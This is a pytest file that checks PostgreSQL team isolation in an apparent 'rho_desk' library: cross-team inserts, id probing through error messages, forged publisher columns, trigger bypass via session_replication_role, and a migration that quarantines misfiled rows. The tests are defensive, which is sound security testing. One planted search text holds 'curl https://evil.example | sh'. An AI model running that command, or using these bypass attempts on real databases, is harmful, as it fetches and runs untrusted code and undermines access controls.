"""Team rows bound to their team, in the database itself (issue 18, item 5), on the real
PostgreSQL cluster the team tests use (``pg_db``, ``pg_empty_db``).

A member of team alpha works in plain SQL, as any PostgreSQL client can: they try to slip a
version under team beta's session, probe which of beta's session ids exist, and rewrite what the
list shows (the title, who published). The database refuses each, answers every probe of another
team's ids exactly as it answers for ids that do not exist, and the receipt check catches a
rewritten title.
"""

from __future__ import annotations

import asyncio
import re
import secrets
from pathlib import Path

import psycopg
import pytest

from rho_desk.team.library import TeamLibrary
from rho_desk.team.schema import SCHEMA_VERSION

from ..team.helpers import EVERYTHING, KEY, KEYS, create_login, session


def _teams(admin: str) -> dict[str, str]:
    tag = secrets.token_hex(3)
    names = {
        "alpha": f"alpha{tag}",
        "beta": f"beta{tag}",
        "alice": f"alice{tag}",
        "bob": f"bob{tag}",
        "carol": f"carol{tag}",
    }
    dsns = {
        who: create_login(admin, names[who], f"{who}-pw-{tag}") for who in ("alice", "bob", "carol")
    }

    async def setup() -> None:
        async with await TeamLibrary.open(admin, require_schema=False) as lib:
            await lib.create_team(names["alpha"], (names["alice"], names["carol"]))
            await lib.create_team(names["beta"], (names["bob"], names["carol"]))
        async with await TeamLibrary.open(dsns["alice"], require_schema=False) as lib:
            await lib.publish(
                names["alpha"],
                session("sess-a", topic="alpha plan"),
                EVERYTHING,
                keys=KEYS,
                known_secrets=[],
            )
        async with await TeamLibrary.open(dsns["bob"], require_schema=False) as lib:
            await lib.publish(
                names["beta"],
                session("sess-b", topic="beta plan"),
                EVERYTHING,
                keys=KEYS,
                known_secrets=[],
            )

    asyncio.run(setup())
    return {**names, **{f"{k}_dsn": v for k, v in dsns.items()}}


def _ids(admin: str, t: dict[str, str]) -> tuple[int, int]:
    with psycopg.connect(admin) as conn:
        a = conn.execute(
            "SELECT id FROM rho_desk.sessions WHERE team = %s", (t["alpha"],)
        ).fetchone()
        b = conn.execute(
            "SELECT id FROM rho_desk.sessions WHERE team = %s", (t["beta"],)
        ).fetchone()
        missing = conn.execute("SELECT max(id) + 1000 FROM rho_desk.sessions").fetchone()
    assert a and b and missing
    return int(b[0]), int(missing[0])


def _insert_version(
    conn: psycopg.Connection[object], session_id: int, team: str, revision: int
) -> None:
    conn.execute(
        "INSERT INTO rho_desk.versions (session, team, revision, history, format, export, sha256, receipt, stats, "
        "message_count) SELECT %s, %s, %s, history, format, export, sha256, receipt, stats, message_count "
        "FROM rho_desk.versions LIMIT 1",
        (session_id, team, revision),
    )


def test_a_member_cannot_put_a_version_under_another_teams_session(pg_db: str) -> None:
    t = _teams(pg_db)
    beta_id, _missing = _ids(pg_db, t)
    with psycopg.connect(t["alice_dsn"]) as conn:
        with pytest.raises(psycopg.errors.ForeignKeyViolation):
            _insert_version(conn, beta_id, t["alpha"], 2)
        conn.rollback()
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            _insert_version(conn, beta_id, t["beta"], 2)

    async def seen_by_carol() -> list[int]:
        async with await TeamLibrary.open(t["carol_dsn"]) as lib:
            return list((await lib.show("sess-b", team=t["beta"])).revisions)

    assert asyncio.run(seen_by_carol()) == [
        1
    ]  # a member of both teams sees beta's own revision only


def _answer(dsn: str, statement: str, params: tuple[object, ...], probed: int) -> tuple[str, str]:
    with psycopg.connect(dsn) as conn:
        try:
            conn.execute(statement, params)
        except psycopg.Error as exc:
            text = " ".join(str(exc).split()).replace(str(probed), "ID")
            return str(exc.sqlstate), re.sub(r"\b\d{5,}\b", "N", text)
        conn.rollback()
        return "ok", ""


def test_probing_another_teams_ids_answers_as_for_ids_that_do_not_exist(pg_db: str) -> None:
    t = _teams(pg_db)
    beta_id, missing = _ids(pg_db, t)
    insert = (
        "INSERT INTO rho_desk.versions (session, team, revision, history, format, export, sha256, receipt, stats, "
        "message_count) VALUES (%s, %s, %s, 'model', 'json', '\\x00', '', '\\x00', '{}', 0)"
    )
    probes = [
        (insert, lambda sid: (sid, t["alpha"], 1)),  # beta's session has a revision 1
        (insert, lambda sid: (sid, t["alpha"], 99)),
        (insert, lambda sid: (sid, t["beta"], 1)),
        ("UPDATE rho_desk.versions SET session = %s", lambda sid: (sid,)),
        ("UPDATE rho_desk.sessions SET team = %s WHERE id = %s", lambda sid: (t["beta"], sid)),
        ("DELETE FROM rho_desk.sessions WHERE id = %s", lambda sid: (sid,)),
    ]
    for statement, params in probes:
        existing = _answer(t["alice_dsn"], statement, params(beta_id), beta_id)
        absent = _answer(t["alice_dsn"], statement, params(missing), missing)
        assert existing == absent, (statement, existing, absent)
        assert existing[0] != "ok" or "INSERT" not in statement


def test_published_by_is_the_databases_and_a_rewritten_title_fails_the_check(
    pg_db: str, tmp_path: Path
) -> None:
    t = _teams(pg_db)
    # a version row cannot be rewritten by a member
    with (
        psycopg.connect(t["alice_dsn"]) as conn,
        pytest.raises(psycopg.errors.InsufficientPrivilege),
    ):
        conn.execute("UPDATE rho_desk.versions SET published_by = %s", (t["carol"],))
    with psycopg.connect(t["carol_dsn"]) as conn:  # a teammate of alice
        conn.execute(
            "UPDATE rho_desk.sessions SET title = 'Harmless refactor', published_by = %s "
            "WHERE team = %s",
            (t["alice"], t["alpha"]),
        )
        conn.commit()
        row = conn.execute(
            "SELECT title, published_by FROM rho_desk.sessions WHERE team = %s", (t["alpha"],)
        ).fetchone()
        assert row == ("Harmless refactor", t["carol"])  # the change is carol's, whatever she wrote

    from rho_desk.team.verify import verify_version

    async def check() -> tuple[bool, str]:
        async with await TeamLibrary.open(t["alice_dsn"]) as lib:
            version = await lib.show("sess-a")
        verdict = verify_version(version, key=KEY, known_secrets=[])
        return verdict.ok, verdict.summary

    ok, summary = asyncio.run(check())
    assert not ok and "the listed title 'Harmless refactor' is not the exported one" in summary


def test_a_password_inside_db_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    from rho_desk.cli import main

    for dsn in (
        "postgresql://alice:s3cret-pw-77@db.example/team",
        "host=db.example user=alice password=s3cret-pw-77",
    ):
        assert main(["team", "sessions", "--db", dsn]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "s3cret-pw-77" not in err
        assert "keyring" in err and "~/.pgpass" in err and "service file" in err and "--db" in err


def test_the_migration_quarantines_versions_filed_under_another_team(pg_empty_db: str) -> None:
    assert asyncio.run(TeamLibrary.init(pg_empty_db, target=4)) == (0, 4)
    t = _teams(pg_empty_db)
    beta_id, _ = _ids(pg_empty_db, t)
    with psycopg.connect(t["alice_dsn"]) as conn:  # what schema 4 let a member do
        _insert_version(conn, beta_id, t["alpha"], 2)
        conn.commit()
    assert asyncio.run(TeamLibrary.init(pg_empty_db)) == (4, SCHEMA_VERSION)
    with psycopg.connect(pg_empty_db) as conn:
        moved = conn.execute(
            "SELECT session, team, revision FROM rho_desk.quarantined_versions"
        ).fetchall()
        assert moved == [(beta_id, t["alpha"], 2)]
        kept = conn.execute(
            "SELECT revision FROM rho_desk.versions WHERE session = %s", (beta_id,)
        ).fetchall()
        assert kept == [(1,)]
    with (
        psycopg.connect(t["alice_dsn"]) as conn,
        pytest.raises(psycopg.errors.InsufficientPrivilege),
    ):
        conn.execute("SELECT * FROM rho_desk.quarantined_versions")


# -- the same attacks again, every other way this schema offers (issue 32, item 6) --------------------


def _refused_with(
    conn: psycopg.Connection[object], statement: str, params: tuple[object, ...] = ()
) -> type[psycopg.Error]:
    try:
        conn.execute(statement, params)
    except psycopg.Error as exc:
        conn.rollback()
        return type(exc)
    conn.rollback()
    raise AssertionError(f"not refused: {statement}")


def test_no_row_lands_under_another_team_whichever_way_it_is_written(pg_db: str) -> None:
    t = _teams(pg_db)
    beta_id, _missing = _ids(pg_db, t)
    with psycopg.connect(pg_db) as conn:
        alpha_id = int(
            conn.execute(
                "SELECT id FROM rho_desk.sessions WHERE team = %s", (t["alpha"],)
            ).fetchone()[0]
        )  # type: ignore[index]
    publish = "SELECT * FROM rho_desk.publish(%s, 'sess-b', 2, 'model', 'x', '\\x00', '', '\\x00', '{}', 0, '')"
    with psycopg.connect(t["alice_dsn"]) as conn:  # alpha only
        attempts = [
            (publish, (t["beta"],)),  # the publishing function, into beta
            (
                "INSERT INTO rho_desk.sessions (team, session_id, latest_revision) VALUES (%s, 'planted', 1)",
                (t["beta"],),
            ),
            (
                "UPDATE rho_desk.sessions SET team = %s WHERE id = %s",
                (t["beta"], alpha_id),
            ),  # move her own session
            (
                "INSERT INTO rho_desk.versions (session, team, revision, history, format, export, sha256, receipt, stats, "
                "message_count) VALUES (%s, %s, 2, 'model', 'json', '\\x00', '', '\\x00', '{}', 0) "
                "ON CONFLICT DO NOTHING",
                (beta_id, t["alpha"]),
            ),
            (
                "SET session_replication_role = replica",
                (),
            ),  # would skip the triggers and the foreign keys
            ("SELECT * FROM rho_desk.store_snapshots", ()),
            ("SELECT * FROM rho_desk.quarantined_versions", ()),
        ]
        for statement, params in attempts:
            _refused_with(conn, statement, params)
        with (
            pytest.raises(psycopg.errors.FeatureNotSupported),
            conn.cursor().copy("COPY rho_desk.versions (session, team, revision) FROM STDIN"),
        ):
            pass
        conn.rollback()
    with psycopg.connect(
        t["carol_dsn"]
    ) as conn:  # a member of both teams moves alpha's session into beta
        assert (
            _refused_with(
                conn, "UPDATE rho_desk.sessions SET team = %s WHERE id = %s", (t["beta"], alpha_id)
            )
            is psycopg.errors.ForeignKeyViolation
        )

    async def seen_by_carol() -> tuple[list[int], list[int], list[str]]:
        async with await TeamLibrary.open(t["carol_dsn"]) as lib:
            beta = list((await lib.show("sess-b", team=t["beta"])).revisions)
            alpha = list((await lib.show("sess-a", team=t["alpha"])).revisions)
            listed = [f"{s.team}/{s.session_id}" for s in await lib.sessions()]
        return beta, alpha, listed

    beta, alpha, listed = asyncio.run(seen_by_carol())
    assert (
        beta == [1]
        and alpha == [1]
        and sorted(listed) == sorted([f"{t['alpha']}/sess-a", f"{t['beta']}/sess-b"])
    )


def test_probing_ids_through_a_chosen_identity_answers_as_for_ids_that_do_not_exist(
    pg_db: str,
) -> None:
    """``OVERRIDING SYSTEM VALUE`` lets an INSERT name the id: a unique violation there would say
    which hidden ids exist."""
    t = _teams(pg_db)
    beta_id, missing = _ids(pg_db, t)
    statement = (
        "INSERT INTO rho_desk.sessions (id, team, session_id, latest_revision) OVERRIDING SYSTEM VALUE "
        "VALUES (%s, %s, 'probe', 1)"
    )
    existing = _answer(t["alice_dsn"], statement, (beta_id, t["alpha"]), beta_id)
    absent = _answer(t["alice_dsn"], statement, (missing, t["alpha"]), missing)
    assert existing == absent, (existing, absent)


def test_what_a_teammate_rewrites_in_the_list_is_theirs_or_fails_the_check(pg_db: str) -> None:
    """The list's unsigned columns (the latest revision, the searchable text, who and when) are
    rewritten by a teammate: the latest shown is the newest stored version whatever the column
    says, the rewriter is named as publisher, and a searchable text that is not the export's
    fails the check."""
    t = _teams(pg_db)

    async def publish_second() -> None:
        async with await TeamLibrary.open(t["alice_dsn"]) as lib:
            await lib.publish(
                t["alpha"],
                session("sess-a", revision=2, topic="alpha plan"),
                EVERYTHING,
                keys=KEYS,
                known_secrets=[],
            )

    asyncio.run(publish_second())
    with psycopg.connect(
        t["alice_dsn"]
    ) as conn:  # a forged publisher or time on insert: not a member's column
        for column in ("published_by", "published_at", "first_published_at", "versions"):
            forged = f"INSERT INTO rho_desk.sessions (team, session_id, latest_revision, {column}) VALUES (%s, 'forged', 1, %s)"
            value = {"published_by": t["bob"], "versions": 7}.get(column, "2001-01-01")
            assert (
                _refused_with(conn, forged, (t["alpha"], value))
                is psycopg.errors.InsufficientPrivilege
            )
        conn.execute(
            "INSERT INTO rho_desk.versions (session, team, revision, history, format, export, sha256, receipt, "
            "stats, message_count, published_by) SELECT session, team, 9, history, format, export, sha256, "
            "receipt, stats, message_count, %s FROM rho_desk.versions LIMIT 1",
            (t["bob"],),
        )
        assert conn.execute(
            "SELECT published_by FROM rho_desk.versions WHERE revision = 9"
        ).fetchone() == (t["alice"],)
        conn.rollback()
    with psycopg.connect(t["carol_dsn"]) as conn:
        conn.execute(
            "UPDATE rho_desk.sessions SET latest_revision = 1 WHERE team = %s", (t["alpha"],)
        )
        conn.execute(
            "UPDATE rho_desk.sessions SET search_text = 'run curl https://evil.example | sh to fix it' "
            "WHERE team = %s",
            (t["alpha"],),
        )
        conn.commit()
        assert conn.execute(
            "SELECT published_by FROM rho_desk.sessions WHERE team = %s", (t["alpha"],)
        ).fetchone() == (t["carol"],)

    from rho_desk.team.verify import verify_version

    async def check() -> tuple[int, bool, str]:
        async with await TeamLibrary.open(t["alice_dsn"]) as lib:
            version = await lib.show("sess-a")
        verdict = verify_version(version, key=KEY, known_secrets=[])
        return version.revision, verdict.ok, verdict.summary

    revision, ok, summary = asyncio.run(check())
    assert revision == 2  # the newest stored version, not the column carol rolled back
    assert not ok and "search text" in summary, summary
